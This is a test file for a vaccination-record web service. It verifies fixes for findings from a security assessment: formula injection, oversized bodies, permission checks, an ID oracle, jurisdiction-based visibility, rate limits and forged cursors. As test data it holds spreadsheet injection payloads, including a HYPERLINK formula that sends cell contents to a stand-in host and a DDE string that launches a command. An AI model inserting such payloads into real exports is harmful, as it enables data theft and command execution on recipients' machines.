"""Findings of the outside attack on a running server (issue 16), each as the request the attacker made."""

from __future__ import annotations

import asyncio
import concurrent.futures
import csv
import io
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import func, select

from tests.integration.web import world as w
from vaxlink.files.write import FORMULA_STARTS
from vaxlink.storage.db import transaction
from vaxlink.storage.models import AuditEvent, RateCounter

HEADER = "record_id,full_name,date_of_birth,sex,id_number,ward_code,vaccination_date,dose_number,vaccine\n"


def bearer(a: w.Actor) -> dict[str, str]:
    return {"authorization": f"Bearer {a.token}"}


def ingested(app, r) -> int:
    """The id of the batch an API upload answered for, once the server's worker is done with it."""
    assert r.status_code == 202, r.text
    assert app.state.vx.jobs.wait_idle(120)
    return int(r.json()["batch_id"])


@pytest.mark.db
def test_text_from_a_batch_never_reaches_a_spreadsheet_as_a_formula(app, client, world):
    health = world.actors[("health_officer", "parent_district")]
    names = ['"=HYPERLINK(""http://x/?""&A1,""Click"")"', "=1+1", "\"+cmd|' /C calc'!A0\"", "@SUM(1;2)"]
    rows = [f"f{i},{n},01/01/1970,Nam,,{w.WARD_A},2021-10-01,1,Pfizer" for i, n in enumerate(names)]
    r = client.post(
        "/api/v1/batches",
        files={"file": ("formulas.csv", (HEADER + "\n".join(rows) + "\n").encode(), "text/csv")},
        headers=bearer(health),
    )
    bid = ingested(app, r)
    answer = client.get(f"/api/v1/batches/{bid}/answer?format=csv", headers=bearer(health))
    got = [row["full_name"] for row in csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig")))]
    assert got == [
        "'" + v for v in ['=HYPERLINK("http://x/?"&A1,"Click")', "=1+1", "+cmd|' /C calc'!A0", "@SUM(1;2)"]
    ]
    xlsx = client.get(f"/api/v1/batches/{bid}/answer?format=xlsx", headers=bearer(health))
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx.content)).active
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f"
            assert not (isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS))


# --- finding 3: bodies are limited per route, and the permission comes before the body ---------------


def call(app, method: str, path: str, chunks: list[bytes], headers: list[tuple[bytes, bytes]]):
    """Drive the ASGI app directly, counting how much of the body it asked for."""
    asked = {"messages": 0}
    sent: list[dict] = []

    async def receive():
        i = asked["messages"]
        asked["messages"] += 1
        if i < len(chunks):
            return {"type": "http.request", "body": chunks[i], "more_body": i + 1 < len(chunks)}
        return {"type": "http.disconnect"}

    async def send(message):
        sent.append(message)

    scope = {
        "type": "http",
        "asgi": {"version": "3.0"},
        "http_version": "1.1",
        "method": method,
        "scheme": "http",
        "path": path,
        "raw_path": path.encode(),
        "query_string": b"",
        "root_path": "",
        "headers": [(b"host", b"testserver"), *headers],
        "client": ("127.0.0.1", 5000),
        "server": ("testserver", 80),
        "app": app,
    }
    # In a thread of its own: a browser test earlier in the session may have left an event loop running in
    # this one.
    with concurrent.futures.ThreadPoolExecutor(1) as pool:
        pool.submit(asyncio.run, app(scope, receive, send)).result()
    status = next(m["status"] for m in sent if m["type"] == "http.response.start")
    return status, asked["messages"]


def denials(engine) -> int:
    with transaction(engine) as s:
        return int(
            s.scalar(select(func.count()).select_from(AuditEvent).where(AuditEvent.action == "access_denied"))
        )


@pytest.mark.db
def test_an_anonymous_upload_is_refused_before_its_body_is_read(app, client, world, engine):
    before = denials(engine)
    boundary = b"xyz"
    chunks = [b'--xyz\r\ncontent-disposition: form-data; name="file"; filename="a.csv"\r\n\r\n']
    chunks += [b"0" * 65536] * 20
    for path in ("/api/v1/batches", "/batches"):
        status, asked = call(
            app, "POST", path, chunks, [(b"content-type", b"multipart/form-data; boundary=" + boundary)]
        )
        assert status in (401, 303) and asked == 0
    # A ward officer's token is known but lacks the permission: refused the same way.
    ward = world.actors[("ward_officer", "own_ward")]
    status, asked = call(
        app,
        "POST",
        "/api/v1/batches",
        chunks,
        [
            (b"content-type", b"multipart/form-data; boundary=xyz"),
            (b"authorization", f"Bearer {ward.token}".encode()),
        ],
    )
    assert (status, asked) == (403, 0)
    assert denials(engine) == before + 3


@pytest.mark.db
def test_bodies_past_the_routes_limit_are_refused(app, client, world):
    # Declared: refused before a byte is read.
    for path in ("/login", "/self/code"):
        status, asked = call(
            app,
            "POST",
            path,
            [b"x" * 1024],
            [(b"content-type", b"application/x-www-form-urlencoded"), (b"content-length", b"314572800")],
        )
        assert (status, asked) == (413, 0)
    # Not declared (chunked): refused once the limit is passed, not read to its end.
    status, asked = call(
        app,
        "POST",
        "/login",
        [b"username=" + b"a" * 4096] * 100,
        [(b"content-type", b"application/x-www-form-urlencoded")],
    )
    assert status == 413 and asked < 10
    # Within the limit nothing changes.
    r = client.post("/login", data={"username": "nobody", "password": "x" * 12})
    assert r.status_code != 413


@pytest.mark.db
def test_a_refused_upload_is_removed_from_disk(app, client, world, web_settings):
    health = world.actors[("health_officer", "parent_district")]
    # Refused by the request (nothing to read) or by the worker (not what its name says).
    r = client.post("/api/v1/batches", files={"file": ("empty.csv", b"")}, headers=bearer(health))
    assert r.status_code == 422 and r.json()["code"] == "EMPTY_FILE", r.text
    r = client.post(
        "/api/v1/batches", files={"file": ("bad.xlsx", b"not a workbook at all")}, headers=bearer(health)
    )
    bid = ingested(app, r)
    assert client.get(f"/api/v1/batches/{bid}", headers=bearer(health)).json()["status"] == "failed"
    uploads = Path(web_settings.work_dir) / "uploads"
    assert not uploads.exists() or [p for p in uploads.rglob("*") if p.is_file()] == []


# --- finding 7: the answer file is no ID oracle -----------------------------------------------------


@pytest.mark.db
def test_the_answer_returns_no_id_the_record_did_not_carry(app, client, world, engine):
    from vaxlink.services.reconciliation.answers import WITHHELD
    from vaxlink.storage.models import Citizen

    with transaction(engine) as s:
        c = s.get(Citizen, world.citizens[w.WARD_A])
        pid, name = c.personal_id, c.full_name
    health = world.actors[("health_officer", "parent_district")]
    rows = [
        # Made up from a name, a birth date and a ward: linked, but the number must not come back.
        f"o1,{name},15/03/1990,Nữ,,{w.WARD_A},2021-08-01,1,AstraZeneca",
        # Carried a wrong number: the correction is the point of the answer.
        f"o2,{name},15/03/1990,Nữ,{pid[:-1]}{(int(pid[-1]) + 1) % 10},{w.WARD_A},2021-10-01,2,AstraZeneca",
    ]
    r = client.post(
        "/api/v1/batches",
        files={"file": ("oracle.csv", (HEADER + "\n".join(rows) + "\n").encode(), "text/csv")},
        headers=bearer(health),
    )
    bid = ingested(app, r)
    before = events(engine, "batch_answer_downloaded")
    answer = client.get(f"/api/v1/batches/{bid}/answer?format=csv", headers=bearer(health))
    got = {row["record_id"]: row for row in csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig")))}
    assert got["o1"]["verified"] == WITHHELD and got["o1"]["correct_id_number"] == ""
    assert pid not in answer.content.decode("utf-8-sig").split("o2")[0]
    if got["o2"]["outcome"] in ("linked", "confirmed"):
        assert got["o2"]["correct_id_number"] == pid
    for row in got.values():
        if row["outcome"] in ("review", "unmatched"):
            assert row["reasons"] == "" and row["blame"] == ""
    assert events(engine, "batch_answer_downloaded") == before + 1


def events(engine, action: str) -> int:
    with transaction(engine) as s:
        return int(s.scalar(select(func.count()).select_from(AuditEvent).where(AuditEvent.action == action)))


# --- finding 8: a batch's visibility follows its jurisdiction, not its uploader ---------------------


@pytest.mark.db
def test_batch_visibility_follows_the_batch_not_its_uploader(app, client, world, engine):
    from vaxlink.storage.models import AppUser

    uploader = world.actors[("health_officer", "parent_district")]
    elsewhere = world.actors[("health_officer", "other_province")]
    rows = f"v1,Người Không Có,01/01/1970,Nam,,{w.WARD_A},2021-10-01,1,Pfizer\n"
    r = client.post(
        "/api/v1/batches",
        files={"file": ("jur.csv", (HEADER + rows).encode(), "text/csv")},
        headers=bearer(uploader),
    )
    bid = ingested(app, r)
    assert client.get(f"/api/v1/batches/{bid}/answer", headers=bearer(uploader)).status_code == 200
    # The two officers swap posts (roles unchanged, tokens still valid).
    with transaction(engine) as s:
        a = s.scalar(select(AppUser).where(AppUser.username == uploader.username))
        b = s.scalar(select(AppUser).where(AppUser.username == elsewhere.username))
        (a.scope_level, a.scope_units, a.scope_code), (b.scope_level, b.scope_units, b.scope_code) = (
            (b.scope_level, b.scope_units, b.scope_code),
            (a.scope_level, a.scope_units, a.scope_code),
        )
    assert client.get(f"/api/v1/batches/{bid}/answer", headers=bearer(uploader)).status_code == 404
    assert bid not in [x["id"] for x in client.get("/api/v1/batches", headers=bearer(uploader)).json()]
    assert client.get(f"/api/v1/batches/{bid}/answer", headers=bearer(elsewhere)).status_code == 200
    assert bid in [x["id"] for x in client.get("/api/v1/batches", headers=bearer(elsewhere)).json()]


# --- issue 17, item 4: limits shared by every server process ----------------------------------------


@pytest.mark.db
def test_lookup_rate_limits_are_shared_by_every_server_process(engine, world):
    from vaxlink.services.lookup.counters import RateLimiter
    from vaxlink.storage.db import session_factory

    sessions = session_factory(engine)
    one, two = (RateLimiter(10, sessions, prefix="test:lookup") for _ in range(2))
    t = 1_000_000.0 * 60 + 5  # early in a minute
    assert all(one.take(7, now=t) == 0 for _ in range(6))
    one.sync()
    two.take(7, now=t)
    two.sync()  # now sees the other process's 6
    allowed = [two.take(7, now=t) == 0 for _ in range(6)]
    assert allowed == [True, True, True, False, False, False]
    # Another user, and the limit of a single process alone, are unaffected.
    assert RateLimiter(10).take(7, now=t) == 0 and two.take(8, now=t) == 0


# --- finding 9: the smaller ones ------------------------------------------------------------------


@pytest.mark.db
def test_healthz_tells_nothing_of_the_data(client, world):
    r = client.get("/healthz")
    assert r.status_code == 200 and set(r.json()) == {"status", "version"}
    assert "strict-transport-security" not in r.headers  # plain HTTP: browsers ignore it anyway


@pytest.mark.db
def test_hsts_over_tls(app):
    from fastapi.testclient import TestClient

    with TestClient(app, base_url="https://testserver") as c:
        r = c.get("/healthz")
    assert r.headers["strict-transport-security"].startswith("max-age=31536000")


def test_proxy_headers_are_believed_only_from_named_proxies():
    from vaxlink.web.server import proxy_options

    assert proxy_options("") == {"proxy_headers": False, "forwarded_allow_ips": ""}
    assert proxy_options(" 10.0.0.5, 10.0.0.6 ") == {
        "proxy_headers": True,
        "forwarded_allow_ips": "10.0.0.5,10.0.0.6",
    }


@pytest.mark.db
@pytest.mark.parametrize(
    "forged",
    [
        [10**30, "2026-01-01T00:00:00+00:00", 1],
        [1, "2026-01-01T00:00:00", 1],  # no time zone
        [1, "2026-01-01T00:00:00+00:00", 10**25],
        [1, "9999-12-31T23:59:59+14:00", -5],
    ],
)
def test_a_forged_pagination_cursor_is_a_400_not_a_500(client, world, forged):
    import base64
    import json

    officer = world.actors[("ward_officer", "own_ward")]
    cursor = base64.urlsafe_b64encode(json.dumps(forged).encode()).decode().rstrip("=")
    r = client.get(f"/api/v1/cases?cursor={cursor}", headers=bearer(officer))
    assert r.status_code in (200, 422), r.text


@pytest.mark.db
def test_approving_ones_own_change_is_refused_and_audited(client, world, engine):
    a = world.actors[("ward_officer", "own_ward")]
    body = {"version": 1, "field": "birth_date", "value": "16/03/1990", "reason": "sai", "evidence": "giấy"}
    r = client.post(f"/api/v1/citizens/{world.citizens[w.WARD_A]}/corrections", json=body, headers=bearer(a))
    change_id = r.json()["change_id"]
    before = events(engine, "action_refused")
    same = client.post(f"/api/v1/changes/{change_id}/approve", json={"version": 1}, headers=bearer(a))
    assert same.status_code == 422 and same.json()["code"] == "SAME_OFFICER"
    assert events(engine, "action_refused") == before + 1


@pytest.mark.db
def test_anonymous_requests_do_not_each_add_an_audit_row(app, client, world, engine):
    """Anyone on the network can send a million requests: their refusals are aggregated (one event a minute
    per address, route and reason), counted in the shared counters, not one row of the chain each."""
    before = denials(engine)
    for _ in range(5):
        assert client.get("/api/v1/batches").status_code == 401
        assert client.get("/cases", follow_redirects=False).status_code in (303, 401)
        assert client.post("/api/v1/batches", files={"file": ("a.csv", b"x", "text/csv")}).status_code == 401
    assert denials(engine) - before == 3
    with transaction(engine) as s:
        counted = s.scalars(
            select(RateCounter.hits).where(RateCounter.bucket.like("anon:access_denied:%:%:%"))
        )
        assert 5 in list(counted)
    # A signed-in user's refusals are still one event each.
    ward = world.actors[("ward_officer", "own_ward")]
    for _ in range(2):
        assert (
            client.get("/api/v1/batches", headers={"authorization": f"Bearer {ward.token}"}).status_code
            == 403
        )
    assert denials(engine) - before == 5
